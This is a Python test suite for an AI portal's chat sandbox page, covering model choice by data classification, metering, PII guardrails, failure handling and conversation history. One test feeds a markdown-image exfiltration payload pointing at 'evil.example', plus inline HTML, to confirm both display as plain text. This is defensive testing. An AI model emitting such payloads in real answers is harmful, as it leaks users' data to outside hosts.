"""The sandbox page (AppTest): models per classification, streamed turns, guardrails, failures, budgets, history."""

from __future__ import annotations

import json

import pytest
from sqlmodel import Session, select

from catalog.models import CatalogModel, DataClassification, ModelStatus
from portal.core.auth import Role
from metering.models import UsageEvent
from sandbox.models import ChatMessage, Conversation
from portal.core.safe_markdown import WORD_JOINER
from tests.views.support import DRAFT, chat, chat_requests, errors, rows, send, shown, unescaped

CARD = "views/model_card.py"
C = DataClassification
MODEL, CLASSIFICATION = "sandbox_model_choice", "sandbox_classification"
LABELS = {"fake-large": "Fake Large — Fake Labs · $3.00 in / $6.00 out per M tokens",
          "fake-small": "Fake Small — Fake Labs · $1.00 in / $2.00 out per M tokens"}
BLOCK_PUBLIC = json.dumps({"public": "block", "internal": "redact", "confidential": "warn", "restricted": "warn"})


# --- every role, and the models offered -----------------------------------------------------------------------

@pytest.mark.parametrize("role", [r.value for r in Role])
def test_the_sandbox_runs_for_every_role(open_sandbox, role) -> None:
    at = open_sandbox(role)
    assert not errors(at)
    assert [t.value for t in at.title] == ["Sandbox"]
    assert at.selectbox(key=MODEL).value == "fake-small"


@pytest.mark.parametrize("role", [r.value for r in Role])
def test_home_links_to_the_sandbox_for_every_role(open_portal, user_with_role, role) -> None:
    at = open_portal(user_with_role(role))
    assert "Sandbox" in [link.value.split(" — ")[0] for link in at.get("page_link")]


@pytest.mark.parametrize(("classification", "offered"), [
    (C.PUBLIC, ["fake-large", "fake-small"]),
    (C.INTERNAL, ["fake-small"]),
])
def test_the_model_list_follows_the_data_classification(open_sandbox, classification, offered) -> None:
    at = open_sandbox()
    at.selectbox(key=CLASSIFICATION).set_value(classification).run()
    assert at.selectbox(key=MODEL).options == [LABELS[name] for name in offered]


def test_no_model_for_confidential_data_says_why_and_sends_nothing(open_sandbox, fake_gateway) -> None:
    at = open_sandbox()
    at.selectbox(key=CLASSIFICATION).set_value(C.CONFIDENTIAL).run()
    assert not at.exception
    assert any("No model approved for confidential data is served by the gateway right now" in w.value
               for w in at.warning)
    assert MODEL not in [box.key for box in at.selectbox]
    assert at.button(key="FormSubmitter:sandbox_form-Send").disabled
    assert chat_requests(fake_gateway) == []


# --- a turn ---------------------------------------------------------------------------------------------------

def test_a_turn_streams_the_answer_saves_it_and_shows_its_cost(open_sandbox, portal_db, fake_gateway,
                                                                user_with_role) -> None:
    at = send(open_sandbox(), "Hello there")
    assert not errors(at)
    assert chat(at) == [("user", "Hello there"), ("assistant", "Echo: Hello there")]
    facts = unescaped(at.chat_message[1].caption[0].value)
    # 2 words in, 3 out at $1 and $2 per million tokens.
    assert facts.startswith("fake-small · 2 tokens in / 3 out · $0.000008 · first token after ")
    assert "tokens/s" in facts and "incomplete" not in facts
    assert at.text_area(key=DRAFT).value == ""
    body = fake_gateway.last_request.body
    assert body["model"] == "fake-small" and body["temperature"] == 0.7 and body["max_tokens"] == 512
    (conversation,) = rows(portal_db, Conversation)
    assert (conversation.title, conversation.owner_id) == ("Hello there", user_with_role("viewer").id)
    assert at.sidebar.button(key=f"sandbox_open_{conversation.id}").label == "Hello there"
    (usage,) = rows(portal_db, UsageEvent)
    assert (usage.model_name, usage.source, usage.status, usage.tokens_in, usage.tokens_out) == (
        "fake-small", "sandbox chat", "ok", 2, 3)
    assert usage.cost_usd == pytest.approx(8e-6)


def test_continuing_a_conversation_sends_its_history_and_the_settings(open_sandbox, portal_db,
                                                                      fake_gateway) -> None:
    at = open_sandbox()
    at.text_area(key="sandbox_system_prompt").input("Answer briefly.")
    at.slider(key="sandbox_temperature").set_value(0.2)
    send(at, "Hello there")
    send(at, "And again")
    assert fake_gateway.last_request.body["messages"] == [
        {"role": "system", "content": "Answer briefly."},
        {"role": "user", "content": "Hello there"},
        {"role": "assistant", "content": "Echo: Hello there"},
        {"role": "user", "content": "And again"},
    ]
    assert fake_gateway.last_request.body["temperature"] == 0.2
    assert len(rows(portal_db, Conversation)) == 1
    assert [who for who, _ in chat(at)] == ["user", "assistant", "user", "assistant"]

    at.button(key="sandbox_new").click().run()
    assert chat(at) == []
    send(at, "Fresh start")
    assert fake_gateway.last_request.body["messages"][-2:] == [
        {"role": "system", "content": "Answer briefly."}, {"role": "user", "content": "Fresh start"}]
    assert len(rows(portal_db, Conversation)) == 2


def test_user_text_and_answers_are_shown_as_plain_text(open_sandbox) -> None:
    at = send(open_sandbox(), "![x](https://evil.example/?q=secret) <b>bold</b>")
    question, answer = (m.markdown[0].value for m in at.chat_message)
    for markdown in (question, answer):
        assert "![x](" not in markdown and "<b>" not in markdown  # no image to load, no HTML
    # The question is shown as typed; the answer as safe Markdown (portal.ui.untrusted_markdown): the image as its
    # alt text and URL in plain text, the HTML as text. Word joiners keep the URL from becoming a link.
    assert unescaped(question).replace(WORD_JOINER, "") == "![x](https://evil.example/?q=secret) <b>bold</b>"
    assert unescaped(answer).replace(WORD_JOINER, "") == "Echo: x (image: https://evil.example/?q=secret) <b>bold</b>"
    assert "](" not in answer


# --- guardrails -----------------------------------------------------------------------------------------------

def test_an_email_under_public_data_is_replaced_and_the_replacement_shown(open_sandbox, fake_gateway,
                                                                          portal_db) -> None:
    at = open_sandbox()
    at.selectbox(key=CLASSIFICATION).set_value(C.PUBLIC).run()
    send(at, "Mail jane.doe@example.com about the launch")
    sent = chat_requests(fake_gateway)[-1].body["messages"][-1]["content"]
    assert "jane.doe@example.com" not in sent and "<EMAIL_1>" in sent
    assert [unescaped(i.value) for i in at.info] == ["Found 1 e-mail address: redacted before sending."]
    table = at.dataframe[0].value
    assert list(zip(table["sent to the model"], table["your text"])) == [("<EMAIL_1>", "jane.doe@example.com")]
    assert "jane" not in chat(at)[0][1]  # the history shows what the model got
    assert at.text_area(key=DRAFT).value == ""


def test_blocked_content_never_reaches_the_gateway_and_the_draft_stays(open_sandbox, fake_gateway,
                                                                       monkeypatch) -> None:
    monkeypatch.setenv("PORTAL_GUARDRAIL_ACTIONS", BLOCK_PUBLIC)
    at = open_sandbox()
    at.selectbox(key=CLASSIFICATION).set_value(C.PUBLIC).run()
    message = "Mail jane.doe@example.com about the launch"
    send(at, message)
    assert errors(at) == ["Found 1 e-mail address: blocked — this message was not sent. Remove it or choose a "
                          "data classification that allows it."]
    assert chat_requests(fake_gateway) == []
    assert at.text_area(key=DRAFT).value == message
    assert chat(at) == []


def test_warn_sends_the_message_as_written_and_says_what_was_in_it(open_sandbox, fake_gateway,
                                                                   monkeypatch) -> None:
    monkeypatch.setenv("PORTAL_GUARDRAIL_ACTIONS", json.dumps(
        {"public": "redact", "internal": "warn", "confidential": "warn", "restricted": "warn"}))
    at = send(open_sandbox(), "Mail jane.doe@example.com about the launch")
    assert chat_requests(fake_gateway)[-1].body["messages"][-1]["content"] == (
        "Mail jane.doe@example.com about the launch")
    assert [unescaped(w.value) for w in at.warning][-1] == (
        "Found 1 e-mail address: sent as written — make sure this data may be shared with the model.")
    assert not at.dataframe


def test_the_system_prompt_is_redacted_and_the_notice_says_so(open_sandbox, fake_gateway) -> None:
    at = open_sandbox()
    at.text_area(key="sandbox_system_prompt").input("You write for jane.doe@example.com.")
    send(at, "Draft a greeting")
    system = chat_requests(fake_gateway)[-1].body["messages"][0]
    assert system == {"role": "system", "content": "You write for <EMAIL_1>."}
    assert [unescaped(i.value) for i in at.info] == [
        "In the system prompt: Found 1 e-mail address: redacted before sending."]
    table = at.dataframe[0].value
    assert list(zip(table["sent to the model"], table["your text"])) == [("<EMAIL_1>", "jane.doe@example.com")]


def test_a_system_prompt_over_the_limit_is_refused_and_nothing_is_lost(open_sandbox, fake_gateway,
                                                                       monkeypatch) -> None:
    monkeypatch.setenv("PORTAL_SANDBOX_MAX_SYSTEM_PROMPT_CHARS", "100")
    at = open_sandbox()
    at.text_area(key="sandbox_system_prompt").input("s" * 101)
    send(at, "Hello there")
    assert errors(at) == ["The system prompt is 101 characters long; at most 100 fit. Shorten it — your message "
                          "is kept."]
    assert chat_requests(fake_gateway) == []
    assert at.text_area(key=DRAFT).value == "Hello there"
    assert at.text_area(key="sandbox_system_prompt").value == "s" * 101


# --- failures -------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("failure", "says"), [
    ("500", "had an internal error (HTTP 500"),
    ("429", "is rate-limiting requests"),
])
def test_a_failed_call_says_why_keeps_the_draft_and_retries(open_sandbox, fake_gateway, monkeypatch, portal_db,
                                                            failure, says) -> None:
    monkeypatch.setenv("PORTAL_GATEWAY_MAX_RETRIES", "0")
    at = open_sandbox()
    fake_gateway.fail_next(failure)
    send(at, "Hello there")
    assert len(errors(at)) == 1 and says in errors(at)[0]
    assert at.text_area(key=DRAFT).value == "Hello there"
    assert chat(at) == []
    assert [u.status for u in rows(portal_db, UsageEvent)] == ["failed"]

    at.button(key="sandbox_retry").click().run()
    assert not errors(at)
    assert chat(at) == [("user", "Hello there"), ("assistant", "Echo: Hello there")]
    assert at.text_area(key=DRAFT).value == ""


def test_a_cut_answer_is_kept_marked_incomplete_and_the_draft_stays(open_sandbox, fake_gateway,
                                                                    portal_db) -> None:
    at = open_sandbox()
    fake_gateway.fail_next("cut", after_chunks=3)
    send(at, "one two three four five")
    assert "stopped before it was finished" in errors(at)[0]
    (who_q, question), (who_a, partial) = chat(at)
    assert (who_q, question, who_a) == ("user", "one two three four five", "assistant")
    assert partial.startswith("Echo:") and partial != "Echo: one two three four five"
    assert "incomplete" in at.chat_message[1].caption[0].value
    assert at.text_area(key=DRAFT).value == "one two three four five"
    (answer,) = [m for m in rows(portal_db, ChatMessage) if m.role == "assistant"]
    assert answer.incomplete
    assert at.button(key="sandbox_retry")


def test_an_exhausted_quota_names_it_and_makes_no_request(open_sandbox, fake_gateway, monkeypatch, portal_db,
                                                          user_with_role) -> None:
    monkeypatch.setenv("PORTAL_SANDBOX_DAILY_TOKEN_QUOTA", "1")
    viewer = user_with_role("viewer")
    with Session(portal_db) as session:
        session.add(UsageEvent(user_id=viewer.id, model_name="fake-small", source="sandbox chat", tokens_in=3))
        session.commit()
    at = open_sandbox()
    send(at, "Hello there")
    assert len(errors(at)) == 1 and "daily sandbox quota of 1 tokens is used up" in errors(at)[0]
    assert chat_requests(fake_gateway) == []
    assert at.text_area(key=DRAFT).value == "Hello there"


def test_an_empty_message_is_refused(open_sandbox, fake_gateway) -> None:
    at = send(open_sandbox(), "   ")
    assert errors(at) == ["Type a message first."]
    assert chat_requests(fake_gateway) == []


# --- conversations --------------------------------------------------------------------------------------------

def test_rename_download_and_delete_a_conversation(open_sandbox, portal_db) -> None:
    at = send(open_sandbox(), "Hello there")
    (conversation,) = rows(portal_db, Conversation)
    assert [b.label for b in at.download_button] == ["Markdown", "JSON"]

    at.text_input(key=f"sandbox_title_{conversation.id}").input("  ")
    at.button(key="sandbox_rename").click().run()
    assert errors(at) == ["A title needs 1 to 200 characters."]
    at.text_input(key=f"sandbox_title_{conversation.id}").input("Greetings")
    at.button(key="sandbox_rename").click().run()
    assert "Renamed the conversation." in shown(at)
    assert at.sidebar.button(key=f"sandbox_open_{conversation.id}").label == "Greetings"

    at.button(key="sandbox_delete").click().run()
    assert "Deleted “Greetings”." in shown(at)
    assert rows(portal_db, Conversation) == [] and rows(portal_db, ChatMessage) == []
    assert len(rows(portal_db, UsageEvent)) == 1  # the bill stays
    assert chat(at) == [] and not at.download_button


def test_opening_an_earlier_conversation_continues_it_with_its_settings(open_sandbox, portal_db,
                                                                        fake_gateway) -> None:
    at = open_sandbox()
    at.selectbox(key=CLASSIFICATION).set_value(C.PUBLIC).run()
    at.selectbox(key=MODEL).set_value("fake-large").run()
    send(at, "First topic")
    at.button(key="sandbox_new").click().run()
    at.selectbox(key=CLASSIFICATION).set_value(C.INTERNAL).run()
    send(at, "Second topic")
    first = next(c for c in rows(portal_db, Conversation) if c.title == "First topic")

    at.sidebar.button(key=f"sandbox_open_{first.id}").click().run()
    assert chat(at) == [("user", "First topic"), ("assistant", "Echo: First topic")]
    assert (at.selectbox(key=CLASSIFICATION).value, at.selectbox(key=MODEL).value) == (C.PUBLIC, "fake-large")
    send(at, "More on it")
    assert [m["content"] for m in fake_gateway.last_request.body["messages"]] == [
        "First topic", "Echo: First topic", "More on it"]


def test_a_conversation_never_continues_below_its_classification(open_sandbox, portal_db) -> None:
    at = send(open_sandbox(), "Internal matters")  # internal by default
    assert at.selectbox(key=CLASSIFICATION).options == ["internal", "confidential", "restricted"]


# --- from a model card ----------------------------------------------------------------------------------------

def test_try_in_sandbox_on_a_card_preselects_the_model(open_portal, user_with_role, served_models) -> None:
    at = open_portal(user_with_role("viewer"))
    at.switch_page(CARD)
    at.query_params["model"] = "fake-large"
    at.run()
    at.button(key="try_in_sandbox").click().run()
    assert not at.exception, at.exception
    assert [t.value for t in at.title] == ["Sandbox"]
    # Fake Large is cleared for public data only, so the classification drops from the default to public.
    assert at.selectbox(key=CLASSIFICATION).value == C.PUBLIC
    assert at.selectbox(key=MODEL).value == "fake-large"


@pytest.mark.parametrize("status", [ModelStatus.PROPOSED, ModelStatus.RETIRED])
def test_a_card_of_an_unusable_model_offers_no_sandbox(open_portal, user_with_role, served_models, portal_db,
                                                       status) -> None:
    with Session(portal_db) as session:
        model = session.exec(select(CatalogModel).where(CatalogModel.name == "fake-small")).one()
        model.status = status.value
        session.add(model)
        session.commit()
    at = open_portal(user_with_role("viewer"))
    at.switch_page(CARD)
    at.query_params["model"] = "fake-small"
    at.run()
    assert not at.exception
    assert "try_in_sandbox" not in [b.key for b in at.button]
